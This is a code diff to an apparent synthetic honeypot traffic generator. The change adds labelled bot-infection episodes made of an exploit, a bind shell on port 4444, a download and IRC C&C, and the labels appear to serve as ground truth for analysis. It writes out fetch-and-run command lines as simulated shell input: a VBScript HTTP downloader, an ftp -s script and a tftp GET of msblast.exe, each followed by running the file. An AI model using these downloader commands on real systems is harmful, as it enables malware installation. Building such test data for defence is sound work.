@@ -43,16 +43,25 @@ attacker_port(const struct host *h)
 }
 
 /* A download server: mostly Unix. */
+/* (A planted bot's servers are its own, as its C&C server below.) */
 static void
 pick_http(struct host *h, int af)
 {
-	host_make(h, af, IDX_HTTP + below(synst.n_http), 120, 800);
+	uint32_t k = below(synst.n_http);
+
+	if (synst.cur_episode != 0)
+		k = synst.n_http + synst.cur_episode % 0x8000;
+	host_make(h, af, IDX_HTTP + k, 120, 800);
 }
 
 static void
 pick_ftp(struct host *h, int af)
 {
-	host_make(h, af, IDX_FTP + below(synst.n_ftp), 300, 650);
+	uint32_t k = below(synst.n_ftp);
+
+	if (synst.cur_episode != 0)
+		k = synst.n_ftp + synst.cur_episode % 0x8000;
+	host_make(h, af, IDX_FTP + k, 300, 650);
 }
 
 /* A C&C server, its port: 6667 for most, odd ports for the rest. */
@@ -62,8 +71,13 @@ pick_irc(struct host *h, int af)
 	static const uint16_t odd[] = { 6668, 7000, 5555, 8080, 1863, 3127,
 	    6666, 9999, 1337, 28000 };
 	uint32_t k = below(synst.n_irc);
-	uint64_t x = splitmix_hash(synst.seed ^ (0x1cc0000ULL + k));
+	uint64_t x;
 
+	/* a planted bot has a C&C server of its own (the servers of the
+	 * others are shared by the bots already on the honeypot) */
+	if (synst.cur_episode != 0)
+		k = synst.n_irc + synst.cur_episode % 0x8000;
+	x = splitmix_hash(synst.seed ^ (0x1cc0000ULL + k));
 	host_make(h, af, IDX_IRC + k, 100, 850);
 	return x % 10 < 6 ? 6667 : odd[(x >> 8) % 10];
 }
@@ -291,6 +305,8 @@ ep_infection(int64_t t, const struct host *h, int full)
 	s = tcp_new(h, 0, attacker_port(h), port, &rtt);
 	s->phase = "infection";
 	s->app = port == 135 ? "dcerpc" : "smb";
+	if (s->episode != 0)
+		s->evidence = "start";
 	t = tcp_handshake(s, t, rtt, pick_hs(0));
 	/* one draw per statement: C leaves the order of the operands open,
 	 * and the bytes must not depend on the compiler */
@@ -313,6 +329,40 @@ ep_infection(int64_t t, const struct host *h, int full)
 	return t;
 }
 
+/*
+ * The bind shell an exploit opened on the honeypot's port 4444 (the
+ * MS04-011 and MS08-067 shellcodes): cmd.exe's banner and prompt, the
+ * attacker's download order cmd, the
+ * prompt again; the attacker closes.  Phase infection, app shell.
+ */
+static int64_t
+ep_shell(int64_t t, const struct host *h, const char *cmd)
+{
+	struct sess *s;
+	const unsigned char *p;
+	size_t len;
+	int64_t rtt;
+
+	s = tcp_new(h, 0, attacker_port(h), 4444, &rtt);
+	s->phase = "infection";
+	s->app = "shell";
+	if (s->episode != 0)
+		s->evidence = "same-source";
+	t = tcp_handshake(s, t, rtt, HS_PLAIN);
+	p = text(s, &len, "Microsoft Windows XP [Version 5.1.2600]\r\n(C) "
+	    "Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\"
+	    "system32>");
+	t = tcp_msg(s, 1, t + local_delay(), p, len);
+	p = text(s, &len, "%s", cmd);
+	t = tcp_msg(s, 0, t + rtt + range(50 * MS, 500 * MS), p, len);
+	t = tcp_msg(s, 0, t + 1, "\r\n", 2);
+	t = tcp_msg(s, 1, t + local_delay(), "\r\nC:\\WINDOWS\\system32>",
+	    23);
+	t = tcp_close(s, 0, t + rtt + range(100 * MS, SEC), rtt);
+	sess_start(s);
+	return t;
+}
+
 /* A DNS lookup of name by the honeypot (RFC 1035 §4.1). */
 static int64_t
 ep_dns(int64_t t, const char *name, const unsigned char *answer)
@@ -325,6 +375,7 @@ ep_dns(int64_t t, const char *name, const unsigned char *answer)
 	uint16_t id = (uint16_t)below(65536);
 	int64_t rtt;
 
+	s->episode = 0;		/* no step of a bot's life (bh-story) */
 	host_make(&h, 4, IDX_RESOLVER, 0, 1000);
 	side_init(s, 0, NULL, hp_ephemeral());
 	side_init(s, 1, &h, 53);
@@ -368,24 +419,38 @@ ep_dns(int64_t t, const char *name, const unsigned char *answer)
 }
 
 /* An HTTP download of the bot from a server (RFC 7230). */
+static const char *const http_paths[] = { "/x.exe", "/bot.exe",
+    "/msupd.exe", "/win32.exe", "/sys/svchost.exe", "/images/mslaugh.exe",
+    "/dl/setup.exe" };
+static int64_t dl_http_at(int64_t t, const struct host *hp, const char *dom,
+    const char *path);
+
 static int64_t
 dl_http(int64_t t, int af)
 {
-	static const char *const paths[] = { "/x.exe", "/bot.exe",
-	    "/msupd.exe", "/win32.exe", "/sys/svchost.exe",
-	    "/images/mslaugh.exe", "/dl/setup.exe" };
+	struct host h;
+	const char *dom = domains[1 + below(5)];
+
+	pick_http(&h, af);
+	return dl_http_at(t, &h, dom, http_paths[below(7)]);
+}
+
+/* The HTTP download of path from server h, named dom. */
+static int64_t
+dl_http_at(int64_t t, const struct host *hp, const char *dom,
+    const char *path)
+{
 	static const char *const servers[] = { "Microsoft-IIS/6.0",
 	    "Apache/2.2.3 (CentOS)", "Sun-ONE-Web-Server/6.1" };
-	struct host h;
+	struct host h = *hp;
+	int af = h.af;
 	struct sess *s;
 	const unsigned char *p;
 	size_t n;
 	int64_t rtt;
 	uint32_t size;
 	int dup, lose1;
-	const char *dom = domains[1 + below(5)];
 
-	pick_http(&h, af);
 	if (af == 4 && chance(500)) {
 		t = ep_dns(t, dom, h.addr);
 		t += local_delay();
@@ -394,10 +459,12 @@ dl_http(int64_t t, int af)
 	s = tcp_new(&h, 1, 80, hp_ephemeral(), &rtt);
 	s->phase = "download";
 	s->app = "http";
+	if (s->episode != 0)
+		s->evidence = "cmd-url";
 	t = tcp_handshake(s, t, rtt, pick_hs(1));
 	p = text(s, &n, "GET %s HTTP/1.1\r\nAccept: */*\r\nUser-Agent: "
 	    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\nHost: %s"
-	    "\r\nConnection: close\r\n\r\n", paths[below(7)], dom);
+	    "\r\nConnection: close\r\n\r\n", path, dom);
 	t = tcp_msg(s, 0, t + local_delay(), p, n);
 	size = (uint32_t)range(13000, 64000);
 	size <<= below(3);
@@ -425,32 +492,42 @@ dl_http(int64_t t, int af)
  * the data connection active (the server connects from port-1 to the
  * PORT address) or passive.  Both sessions are download, linked.
  */
-static int64_t
-dl_ftp(int64_t t, const struct host *attacker)
+/* The FTP server of a download after attacker's exploit: half the time
+ * the attacker's own bot FTP server on a high port. */
+static void
+ftp_pick(const struct host *attacker, struct host *h, uint16_t *port,
+    int *botftp)
 {
-	struct host h;
+	*botftp = chance(500);
+	if (*botftp) {
+		*h = *attacker;
+		*port = (uint16_t)range(1024, 40000);
+	} else {
+		pick_ftp(h, attacker->af);
+		*port = 21;
+	}
+}
+
+static int64_t
+dl_ftp(int64_t t, const struct host *hp, uint16_t port, int botftp)
+{
+	struct host h = *hp;
 	struct sess *c, *d;
 	const unsigned char *p;
 	size_t n;
 	int64_t rtt, drtt, td;
-	uint16_t port, dport, lport;
-	int passive, botftp;
+	uint16_t dport, lport;
+	int passive;
 	uint32_t size;
 
-	botftp = chance(500);
 	size = (uint32_t)range(13000, 64000);
 	size <<= below(3);
-	if (botftp) {
-		h = *attacker;
-		port = (uint16_t)range(1024, 40000);
-	} else {
-		pick_ftp(&h, attacker->af);
-		port = 21;
-	}
 	passive = h.af == 6 || chance(400);
 	c = tcp_new(&h, 1, port, hp_ephemeral(), &rtt);
 	c->phase = "download";
 	c->app = "ftp";
+	if (c->episode != 0)
+		c->evidence = "cmd-ftp";
 	t = tcp_handshake(c, t, rtt, pick_hs(1));
 	p = text(c, &n, botftp ? "220 StnyFtpd 0wns j0\r\n" :
 	    h.os == OS_WINDOWS ? "220 Serv-U FTP Server v6.0 for WinSock "
@@ -469,6 +546,8 @@ dl_ftp(int64_t t, const struct host *attacker)
 	d = tcp_new(&h, passive, 0, lport, &drtt);
 	d->phase = "download";
 	d->app = "ftp-data";
+	if (d->episode != 0)
+		d->evidence = "ftp-data";
 	d->vlan = c->vlan;
 	if (passive) {
 		/* the client connects to the announced port, then asks */
@@ -544,6 +623,8 @@ dl_tftp(int64_t t, const struct host *h)
 	q->dir = DIR_OUT;
 	q->phase = "download";
 	q->app = "tftp";
+	if (q->episode != 0)
+		q->evidence = "cmd-tftp";
 	q->how = "udp";
 	rrq = text(q, &n, "%c%cmsblast.exe%coctet%c", 0, 1, 0, 0);
 	stream_add(q, 0, rrq, n);
@@ -556,6 +637,8 @@ dl_tftp(int64_t t, const struct host *h)
 	d->dir = DIR_IN;
 	d->phase = "download";
 	d->app = "tftp";
+	if (d->episode != 0)
+		d->evidence = "tftp-data";
 	d->how = "udp";
 	blocks = size / TFTP_BLOCK + 1;
 	t += rtt + range(0, 2 * MS);
@@ -613,6 +696,8 @@ ep_cnc(int64_t t, int af)
 	s = tcp_new(&h, 1, port, hp_ephemeral(), &rtt);
 	s->phase = "cnc";
 	s->app = "irc";
+	if (s->episode != 0)
+		s->evidence = "time";
 	snprintf(srv, sizeof(srv), "irc%u.%s", below(9), domains[0] + 4);
 	snprintf(cmd, sizeof(cmd), cmds[below(5)], "1.2.3.4");
 	t = tcp_handshake(s, t, rtt, pick_hs(1));
@@ -786,31 +871,74 @@ ep_arp(int64_t t)
 void
 episode(int64_t t, uint64_t room)
 {
-	struct host h;
+	struct host h, srv;
+	char cmd[512];
 	unsigned r = below(1000);
 	int af;
 
 	if (room < 8 && r >= 330 && r < 580)
 		r = 600;
+	/* the planted bots' lives do not overlap (bh-story could then join
+	 * a C&C to its infection by time alone only by chance): a success
+	 * within 30 s of the last one is a failed attempt instead */
+	if (r >= 560 && r < 580 && synst.last_chain != 0 &&
+	    t < synst.last_chain + 30 * SEC)
+		r = 400;
 	if (r < 330)
 		ep_scan(t);
 	else if (r < 560) {
 		pick_attacker(&h, pick_af());
 		ep_infection(t, &h, 0);
 	} else if (r < 580) {
-		/* a successful infection: the exploit, the download, C&C */
+		/* a successful infection, a planted episode (bh-story): the
+		 * exploit, the shell it opened with the download order, the
+		 * download that order names, C&C */
 		af = pick_af();
 		pick_attacker(&h, af);
+		synst.cur_episode = ++synst.n_episodes;
+		synst.last_chain = t;
 		t = ep_infection(t, &h, 1);
 		t += range(SEC, 5 * SEC);
 		r = below(100);
-		if (r < 50)
-			t = dl_http(t, af);
-		else if (r < 80)
-			t = dl_ftp(t, &h);
-		else
-			t = dl_tftp(t, &h);
+		if (r < 50) {
+			char dom[64];
+			const char *path = http_paths[below(7)];
+
+			/* its own name, as its own server */
+			snprintf(dom, sizeof(dom), "upd%u.%s",
+			    (unsigned)synst.cur_episode, domains[1 + below(5)]);
+			pick_http(&srv, af);
+			snprintf(cmd, sizeof(cmd), "echo Set x=CreateObject(\"MSXML2."
+			    "XMLHTTP\"):x.Open \"GET\",\"http://%s%s\",0:x.Send:"
+			    "Set s=CreateObject(\"ADODB.Stream\"):s.Open:s.Type=1:"
+			    "s.Write x.responseBody:s.SaveToFile \"b.exe\",2 > "
+			    "d.vbs&cscript //nologo d.vbs&start b.exe", dom, path);
+			t = ep_shell(t, &h, cmd);
+			t = dl_http_at(t + range(SEC, 3 * SEC), &srv, dom, path);
+		} else if (r < 80) {
+			uint16_t port;
+			int botftp;
+			char a[INET6_ADDRSTRLEN];
+
+			ftp_pick(&h, &srv, &port, &botftp);
+			addr_fmt(a, srv.af, srv.addr);
+			snprintf(cmd, sizeof(cmd), "echo open %s %u > o&echo "
+			    "user 1 1 >> o&echo binary >> o&echo get bot.exe >> "
+			    "o&echo bye >> o&ftp -n -s:o&del o&bot.exe", a,
+			    (unsigned)port);
+			t = ep_shell(t, &h, cmd);
+			t = dl_ftp(t + range(SEC, 3 * SEC), &srv, port, botftp);
+		} else {
+			char a[INET6_ADDRSTRLEN];
+
+			addr_fmt(a, h.af, h.addr);
+			snprintf(cmd, sizeof(cmd), "tftp -i %s GET msblast.exe&"
+			    "start msblast.exe", a);
+			t = ep_shell(t, &h, cmd);
+			t = dl_tftp(t + range(SEC, 3 * SEC), &h);
+		}
 		ep_cnc(t + range(2 * SEC, 20 * SEC), af);
+		synst.cur_episode = 0;
 	} else if (r < 590 && room >= 8)
 		dl_http(t, pick_af());
 	else if (r < 600 && room >= 8)
